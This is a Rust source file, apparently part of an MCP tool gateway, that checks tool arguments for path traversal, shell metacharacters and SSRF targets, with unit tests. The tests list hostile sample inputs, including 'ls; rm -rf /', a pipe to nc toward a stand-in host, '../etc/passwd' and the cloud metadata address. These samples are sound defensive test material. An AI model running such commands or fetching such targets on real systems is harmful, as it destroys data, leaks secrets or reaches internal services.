//! Checks on the string arguments of tools the configuration marks as taking paths,
//! shell commands or URLs (OBS-04, OWASP MCP05). Every string in the arguments,
//! nested or not, is checked; the first problem refuses the call before it is
//! forwarded.

use std::net::IpAddr;

use palisade_config::ArgumentChecks;
use serde_json::Value;

/// Whether `name` matches a glob where `*` stands for any run of characters.
pub(crate) fn glob_match(glob: &str, name: &str) -> bool {
    let parts: Vec<&str> = glob.split('*').collect();
    if parts.len() == 1 {
        return glob == name;
    }
    let (first, last) = (parts[0], parts[parts.len() - 1]);
    if !name.starts_with(first) || !name[first.len()..].ends_with(last) {
        return false;
    }
    let mut rest = &name[first.len()..name.len() - last.len()];
    for p in &parts[1..parts.len() - 1] {
        match rest.find(p) {
            Some(i) => rest = &rest[i + p.len()..],
            None => return false,
        }
    }
    true
}

/// The first problem with the arguments of tool `name`, if any.
pub(crate) fn check(checks: &ArgumentChecks, name: &str, args: &Value) -> Option<String> {
    let applies = |globs: &[String]| globs.iter().any(|g| glob_match(g, name));
    let (paths, commands, urls) = (
        applies(&checks.paths),
        applies(&checks.commands),
        applies(&checks.urls),
    );
    if !(paths || commands || urls) {
        return None;
    }
    let mut strings = Vec::new();
    collect(args, "", &mut strings);
    for (at, s) in strings {
        let at = if at.is_empty() { "/".to_owned() } else { at };
        if s.chars()
            .any(|c| c == '\0' || (c.is_control() && !matches!(c, '\n' | '\t')))
        {
            return Some(format!("{at}: control characters"));
        }
        if paths && traverses(s) {
            return Some(format!("{at}: path traversal"));
        }
        if commands && let Some(c) = s.chars().find(|c| ";|&$`<>(){}\n\r\\".contains(*c)) {
            return Some(format!("{at}: shell metacharacter {c:?}"));
        }
        if urls && let Some(why) = forbidden_target(s) {
            return Some(format!("{at}: {why}"));
        }
    }
    None
}

fn collect<'a>(v: &'a Value, path: &str, out: &mut Vec<(String, &'a str)>) {
    match v {
        Value::String(s) => out.push((path.to_owned(), s)),
        Value::Array(items) => {
            for (i, item) in items.iter().enumerate() {
                collect(item, &format!("{path}/{i}"), out);
            }
        }
        Value::Object(map) => {
            for (k, item) in map {
                collect(item, &format!("{path}/{k}"), out);
            }
        }
        _ => {}
    }
}

fn traverses(s: &str) -> bool {
    let decoded = s
        .to_ascii_lowercase()
        .replace("%2e", ".")
        .replace("%2f", "/")
        .replace("%5c", "\\");
    decoded.split(['/', '\\']).any(|seg| seg == "..")
}

/// Why a URL argument may not be fetched: a scheme other than http(s), credentials in
/// the URL, or a host that is loopback, private, link-local (cloud metadata) or
/// otherwise internal. Names are not resolved here.
fn forbidden_target(s: &str) -> Option<&'static str> {
    let (scheme, rest) = s.split_once("://")?;
    let scheme = scheme.to_ascii_lowercase();
    if !matches!(scheme.as_str(), "http" | "https") {
        return Some("only http and https URLs are allowed");
    }
    let authority = rest.split(['/', '?', '#']).next().unwrap_or("");
    if authority.contains('@') {
        return Some("credentials in a URL");
    }
    let host = match authority.strip_prefix('[') {
        Some(v6) => v6.split(']').next().unwrap_or(""),
        None => authority.rsplit_once(':').map_or(authority, |(h, _)| h),
    }
    .trim_end_matches('.')
    .to_ascii_lowercase();
    if host == "localhost"
        || host.ends_with(".localhost")
        || host.ends_with(".internal")
        || host.ends_with(".local")
        || host == "metadata.google.internal"
    {
        return Some("an internal host");
    }
    let ip = host.parse::<IpAddr>().ok().or_else(|| {
        // Integer and hex forms of IPv4 addresses.
        let n = if let Some(h) = host.strip_prefix("0x") {
            u32::from_str_radix(h, 16).ok()
        } else {
            host.parse::<u32>().ok()
        };
        n.map(|n| IpAddr::from(std::net::Ipv4Addr::from(n)))
    })?;
    let internal = match ip {
        IpAddr::V4(v4) => {
            v4.is_loopback()
                || v4.is_private()
                || v4.is_link_local()
                || v4.is_unspecified()
                || v4.is_broadcast()
                || v4.octets()[0] == 100 && (64..128).contains(&v4.octets()[1])
        }
        IpAddr::V6(v6) => {
            v6.is_loopback()
                || v6.is_unspecified()
                || (v6.segments()[0] & 0xfe00) == 0xfc00
                || (v6.segments()[0] & 0xffc0) == 0xfe80
                || v6
                    .to_ipv4_mapped()
                    .is_some_and(|v4| v4.is_loopback() || v4.is_private() || v4.is_link_local())
        }
    };
    internal.then_some("a loopback, private or link-local address")
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn checks() -> ArgumentChecks {
        ArgumentChecks {
            paths: vec!["read_*".into(), "write_file".into()],
            commands: vec!["run".into()],
            urls: vec!["fetch*".into()],
        }
    }

    #[test]
    fn globs() {
        assert!(glob_match("read_*", "read_file"));
        assert!(glob_match("*_file", "read_file"));
        assert!(glob_match("a*b*c", "axxbyyc"));
        assert!(!glob_match("read_*", "write_file"));
        assert!(glob_match("run", "run") && !glob_match("run", "runner"));
    }

    #[test]
    fn obs_04_path_traversal_is_refused() {
        let c = checks();
        for p in [
            "../etc/passwd",
            "/srv/data/../../root/.ssh",
            "a\\..\\b",
            "%2e%2e/secret",
            "x\0y",
        ] {
            assert!(
                check(&c, "read_file", &json!({"path": p})).is_some(),
                "{p:?}"
            );
        }
        assert!(check(&c, "read_file", &json!({"path": "/srv/data/report..txt"})).is_none());
        assert!(
            check(&c, "list_dir", &json!({"path": "../x"})).is_none(),
            "not marked"
        );
    }

    #[test]
    fn obs_04_shell_metacharacters_are_refused() {
        let c = checks();
        for cmd in [
            "ls; rm -rf /",
            "cat x | nc evil 1",
            "echo $(id)",
            "a && b",
            "`id`",
            "x > /etc/y",
        ] {
            assert!(check(&c, "run", &json!({"argv": [cmd]})).is_some(), "{cmd}");
        }
        assert!(check(&c, "run", &json!({"argv": ["ls", "-la", "/tmp"]})).is_none());
    }

    #[test]
    fn obs_04_ssrf_targets_are_refused() {
        let c = checks();
        for u in [
            "http://127.0.0.1/admin",
            "http://169.254.169.254/latest/meta-data/",
            "http://10.0.0.5:8080/",
            "http://[::1]/",
            "http://localhost:6379/",
            "http://2130706433/",
            "http://0x7f000001/",
            "file:///etc/passwd",
            "https://user:pw@example.com/",
            "http://[fd00::1]/",
        ] {
            assert!(check(&c, "fetch", &json!({"url": u})).is_some(), "{u}");
        }
        assert!(check(&c, "fetch", &json!({"url": "https://example.com/page?q=1"})).is_none());
    }
}
